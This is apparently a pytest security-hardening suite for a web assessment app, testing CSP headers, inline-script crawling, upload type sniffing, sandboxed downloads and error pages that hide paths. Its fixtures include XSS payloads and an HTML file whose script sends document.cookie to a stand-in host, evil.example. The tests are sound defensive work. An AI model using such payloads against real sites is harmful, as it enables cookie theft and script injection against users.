"""Security hardening: response headers, pages a strict CSP allows, upload types, downloads, error pages."""

from __future__ import annotations

import io
import zipfile
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import urldefrag, urlsplit

import pytest
from sqlalchemy import select

from assessment.extensions import db, report_store
from assessment.models import Evidence, EvidenceLink, ReportJob
from assessment.services import access
from tests.integration.helpers import autosave, example_version, make_scope
from tests.integration.test_evidence import count, files_in, upload
from tests.integration.test_transfer import ANSWERS, assert_refused, post_zip

CSP = (
    "default-src 'self'; script-src 'self'; style-src 'self'; img-src 'self' data:; object-src 'none'; "
    "base-uri 'none'; form-action 'self'; frame-ancestors 'none'"
)


def assert_security_headers(response):
    assert response.headers["Content-Security-Policy"] == CSP
    assert response.headers["X-Frame-Options"] == "DENY"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Referrer-Policy"] == "same-origin"
    assert response.headers["Cross-Origin-Opener-Policy"] == "same-origin"


# -- headers -----------------------------------------------------------------------------------


def test_headers_on_a_page_json_a_static_file_and_a_404(app, client, devops):
    assessment, _ = devops
    page = client.get(f"/assessments/{assessment}/domains/0")
    assert page.status_code == 200 and page.mimetype == "text/html"
    saved = autosave(client, assessment, "CI-01", "yes")
    assert saved.status_code == 200 and saved.mimetype == "application/json"
    missing = client.get("/no/such/page")
    assert missing.status_code == 404
    static = client.get("/static/questionnaire.js")
    for response in (page, saved, missing, static):
        assert_security_headers(response)
    static.close()


# -- no inline script or style on any page ---------------------------------------------------------


class _InlineFinder(HTMLParser):
    """Collects what a CSP without 'unsafe-inline' blocks, and the page's same-site links."""

    def __init__(self):
        super().__init__()
        self.problems: list[str] = []
        self.links: list[str] = []

    def handle_starttag(self, tag, attrs):
        names = dict(attrs)
        if tag == "script" and not names.get("src"):
            self.problems.append("<script> without src")
        if tag == "style":
            self.problems.append("<style> block")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=...>")
            if name == "style":
                self.problems.append(f"<{tag} style={value!r}>")
            if name in ("href", "src", "action") and (value or "").strip().lower().startswith("javascript:"):
                self.problems.append(f"<{tag} {name}={value!r}>")
        if tag == "a" and names.get("href"):
            self.links.append(names["href"])


SKIP = ("/download", "/export", ".csv", ".zip", "/static/")


def crawl(client, start: list[str], limit: int = 200) -> dict[str, list[str]]:
    """Every same-site HTML page reachable from `start` by links: {url: problems}."""
    seen: dict[str, list[str]] = {}
    queue = list(start)
    while queue and len(seen) < limit:
        url = queue.pop(0)
        if url in seen:
            continue
        response = client.get(url, follow_redirects=True)
        assert response.status_code in (200, 404), (url, response.status_code)
        assert response.headers["Content-Security-Policy"] == CSP, url
        if response.mimetype != "text/html":  # a download (a sheet, an OSCAL file) is not a page
            seen[url] = []
            continue
        finder = _InlineFinder()
        finder.feed(response.get_data(as_text=True))
        seen[url] = finder.problems
        for href in finder.links:
            href = urldefrag(href).url
            if href.startswith("/") and not urlsplit(href).netloc and not any(s in href for s in SKIP):
                queue.append(href)
    return seen


@pytest.mark.slow
def test_no_page_has_inline_script_style_or_handlers(app, client, devops):
    assessment, scope = devops
    hostile = '" onmouseover="alert(1)" style="x"><script>alert(1)</script>'
    assert autosave(client, assessment, "CI-01", "yes", note=hostile).status_code == 200
    assert autosave(client, assessment, "CI-02", "most").status_code == 200
    assert autosave(client, assessment, "DEP-02", "36.5").status_code == 200
    upload(client, assessment, "CI-01", b"stages: [build]\n", "pipeline.yml", title=hostile)
    client.post(
        f"/assessments/{assessment}/requirements/OPS-01/evidence",
        data={"url": "https://wiki.example.com/slo", "title": hostile, "expires": "2026-10-31"},
    )
    assert client.post(f"/assessments/{assessment}/backlog/generate").status_code == 302
    with app.app_context():
        job = ReportJob(assessment_id=assessment, kind="pdf", fingerprint="x" * 64, requested_by="tester")
        db.session.add(job)
        db.session.commit()
        job_id = job.id
    evidence_page = f"/assessments/{assessment}/requirements/CI-01/evidence"  # reached by a form's button
    pages = crawl(
        client, ["/", evidence_page, f"/assessments/{assessment}/results?gaps=all", f"/reports/{job_id}", "/nope"]
    )
    visited = set(pages)
    for expected in (
        "/",
        f"/scopes/{scope}",
        "/library",
        f"/assessments/{assessment}/domains/0",
        f"/assessments/{assessment}/results",
        f"/assessments/{assessment}/backlog",
        f"/reports/{job_id}",
    ):
        assert expected in visited, (expected, sorted(visited))
    assert {url: problems for url, problems in pages.items() if problems} == {}


# -- uploads -----------------------------------------------------------------------------------


PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
PNG = bytes.fromhex("89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489") + b"\x00" * 16
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 100
HTML = b"<!DOCTYPE html>\n<html><body><script>document.location='https://evil.example/'+document.cookie</script>"


def stored_types(app) -> dict[str, str]:
    with app.app_context():
        files = select(Evidence.original_name, Evidence.media_type).where(Evidence.sha256.is_not(None))
        return dict(db.session.execute(files).all())


def assert_nothing_stored(app):
    assert files_in(app) == [] and count(app, Evidence) == 0 and count(app, EvidenceLink) == 0


def test_html_renamed_pdf_is_refused_and_stores_nothing(app, client, devops):
    assessment, _ = devops
    response = upload(client, assessment, "CI-01", HTML, "report.pdf")
    text = response.get_data(as_text=True)
    assert response.status_code == 422 and "text/html" in text and "nothing was stored" in text
    assert "Accepted: PDF" in text
    assert_nothing_stored(app)


@pytest.mark.parametrize(
    ("data", "name", "detected"),
    [
        (ELF, "build-tool", "application/x-executable"),
        (
            b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 64,
            "setup.dat",
            "application/x-dosexec",
        ),
        (b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "chart.png", "image/svg+xml"),
        (
            b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script/></html>',
            "page.xml",
            "application/xhtml+xml",
        ),
        (b"\x00\x01\x02\x03 opaque", "data.bin", "application/octet-stream"),
    ],
)
def test_executables_and_active_content_are_refused(app, client, devops, data, name, detected):
    assessment, _ = devops
    response = upload(client, assessment, "CI-01", data, name)
    assert response.status_code == 422 and detected in response.get_data(as_text=True)
    assert_nothing_stored(app)


def test_a_name_that_would_run_when_opened_is_refused_whatever_the_content(app, client, devops):
    assessment, _ = devops
    for name in ("notes.html", "diagram.svg", "deploy.bat", "helper.js"):
        response = upload(client, assessment, "CI-01", b"just some text\n", name)
        assert response.status_code == 422 and "could run when opened" in response.get_data(as_text=True), name
    assert_nothing_stored(app)


def test_a_name_contradicting_the_content_is_refused(app, client, devops):
    assessment, _ = devops
    response = upload(client, assessment, "CI-01", b"stages: [build]\n", "scan.pdf")
    assert response.status_code == 422 and "its content is text/plain" in response.get_data(as_text=True)
    response = upload(client, assessment, "CI-01", PDF, "notes.txt")
    assert response.status_code == 422 and "its content is application/pdf" in response.get_data(as_text=True)
    assert_nothing_stored(app)


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def test_accepted_files_store_the_sniffed_type(app, client, devops):
    assessment, _ = devops
    files = {
        "scan.pdf": PDF,
        "screenshot": PNG,  # no extension: the name says nothing, the content does
        "pipeline.yml": b"stages: [build, test]\n",
        "deploy.sh": b"#!/bin/sh\nset -eu\nmake deploy\n",
        "x": b"x",  # too short for libmagic, but plain text
        "policy.docx": _zip({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"}),
    }
    for name, data in files.items():
        response = upload(client, assessment, "CI-01", data, name)
        assert response.status_code == 302, (name, response.get_data(as_text=True))
    assert stored_types(app) == {
        "scan.pdf": "application/pdf",
        "screenshot": "image/png",
        "pipeline.yml": "text/plain",
        "deploy.sh": "text/x-shellscript",
        "x": "text/plain",
        "policy.docx": "application/zip",
    }
    assert len(files_in(app)) == len(files)


def test_import_refuses_an_evidence_file_of_a_refused_type(app, client):
    example_version(app)
    scope = make_scope(client)
    answers = ANSWERS.replace(
        b"        sha256: 1a8dd0a0e6bd03841deb022508d992e909b2aeec63148d1b7e7629ecaf94a533\n", b""
    )
    response = post_zip(client, scope, {"answers.yaml": answers, "evidence/pipeline.yml": HTML})
    assert_refused(app, response, "The evidence file &#39;evidence/pipeline.yml&#39; is refused")
    assert "text/html" in response.get_data(as_text=True)


def test_import_stores_the_sniffed_type(app, client):
    example_version(app)
    scope = make_scope(client)
    pipeline = (Path(__file__).parents[1] / "data" / "spec-examples" / "evidence" / "pipeline.yml").read_bytes()
    response = post_zip(client, scope, {"answers.yaml": ANSWERS, "evidence/pipeline.yml": pipeline})
    assert response.status_code == 302, response.get_data(as_text=True)
    assert stored_types(app) == {"pipeline.yml": "text/plain"}


# -- downloads ---------------------------------------------------------------------------------


def test_download_is_an_attachment_with_nosniff_and_a_sandbox(app, client, devops):
    assessment, _ = devops
    upload(client, assessment, "CI-01", PDF, "scan.pdf")
    with app.app_context():
        evidence_id = db.session.scalar(select(Evidence.id))
    response = client.get(f"/evidence/{evidence_id}/download")
    assert response.status_code == 200 and response.data == PDF
    assert response.headers["Content-Type"] == "application/pdf"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response.headers["Content-Security-Policy"].split(";")[0]
    assert "default-src 'none'" in response.headers["Content-Security-Policy"]
    response.close()


def test_a_stored_type_off_the_allow_list_is_served_as_bytes(app, client, devops):
    """Rows stored before sniffing hold a type guessed from the name, perhaps text/html."""
    assessment, _ = devops
    upload(client, assessment, "CI-01", b"<p>hello</p> as text\n", "page.txt")
    with app.app_context():
        row = db.session.scalar(select(Evidence))
        row.media_type = "text/html"
        db.session.commit()
        evidence_id = row.id
    response = client.get(f"/evidence/{evidence_id}/download")
    assert response.headers["Content-Type"] == "application/octet-stream"
    assert response.headers["Content-Disposition"].startswith("attachment;")
    response.close()


# -- error pages -------------------------------------------------------------------------------


@pytest.fixture
def production(app):
    """The app as in production: errors become pages, not exceptions."""
    app.config.update(TESTING=False, PROPAGATE_EXCEPTIONS=False)
    app.testing = False
    return app


def test_a_500_page_shows_no_trace_and_no_path(production, client, devops, monkeypatch):
    assessment, _ = devops
    instance = production.instance_path

    def broken(*_args):
        raise OSError(f"[Errno 13] Permission denied: '{instance}/assessment.db' in {Path(__file__)}")

    monkeypatch.setattr(access, "assessment_for", broken)
    response = client.get(f"/assessments/{assessment}/results")
    text = response.get_data(as_text=True)
    assert response.status_code == 500 and "nothing was changed" in text
    assert "Traceback" not in text and instance not in text and str(Path(__file__).parent) not in text
    assert "/work" not in text and "Errno" not in text
    assert_security_headers(response)


@pytest.mark.slow
def test_a_failed_report_shows_no_trace_and_no_path(app, client, devops, monkeypatch, caplog):
    """A rendering worker's stderr is a traceback full of paths: it is logged, not shown."""
    import reports.render
    from reports.pool import WorkerFailed

    assessment, _ = devops
    app.config["REPORTS_SYNC"] = True
    trace = f'Traceback (most recent call last):\n  File "{app.instance_path}/reports/worker.py", line 1\nMemoryError'

    def fail(_report, **_options):
        raise WorkerFailed("a report rendering worker failed", trace)

    monkeypatch.setattr(reports.render, "render_pdf", fail)
    job = client.post(f"/assessments/{assessment}/reports/pdf").headers["Location"]
    for url in (job, job + "/status"):
        text = client.get(url).get_data(as_text=True)
        assert "could not be rendered" in text, text
        assert "Traceback" not in text and app.instance_path not in text
    assert f'File "{app.instance_path}/reports/worker.py"' in caplog.text  # the worker's own trace is in the log


@pytest.mark.slow
def test_a_bundle_of_a_missing_file_names_the_file_not_its_path(app, client, devops):
    assessment, _ = devops
    app.config["REPORTS_SYNC"] = True
    upload(client, assessment, "CI-01", b"stages: [build]\n", "pipeline.yml", title="Pipeline")
    for key in files_in(app):
        report_store(app).evidence.blobs.delete(key)
    job = client.post(f"/assessments/{assessment}/reports/bundle").headers["Location"]
    text = client.get(job + "/status").get_data(as_text=True)
    assert "pipeline.yml" in text and "cannot read" in text, text
    assert app.instance_path not in text and str(Path(app.config["EVIDENCE_DIR"])) not in text


def test_an_import_missing_an_evidence_file_does_not_show_the_servers_folder(app, client):
    example_version(app)
    scope = make_scope(client)
    response = post_zip(client, scope, {"answers.yaml": ANSWERS})
    text = response.get_data(as_text=True)
    assert response.status_code == 422 and "not found in the upload" in text
    assert "looked at" not in text and "/tmp" not in text and "import-" not in text
